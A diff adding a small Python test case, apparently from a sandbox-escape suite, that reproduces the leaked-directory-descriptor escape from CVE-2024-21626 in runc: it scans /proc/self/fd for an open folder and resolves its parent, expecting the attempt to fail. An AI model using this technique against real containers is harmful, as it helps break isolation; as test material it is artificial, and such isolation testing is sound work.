@@ -1,0 +1,23 @@
+"""Leave by a folder that somebody left open.
+
+Source: CVE-2024-21626, runc.
+"""
+
+import os
+import stat
+from pathlib import Path
+from typing import Any
+
+EXPECTED = "FileNotFoundError"
+WALLS = ("descriptors",)
+RUNS_OUTSIDE = False
+
+
+def attack(target: dict[str, Any]) -> object:
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISDIR(os.fstat(int(name)).st_mode):
+                return Path(f"/proc/self/fd/{name}/..").resolve().as_posix()
+        except OSError:
+            continue  # the descriptor of the listing itself
+    raise FileNotFoundError("no folder is open")
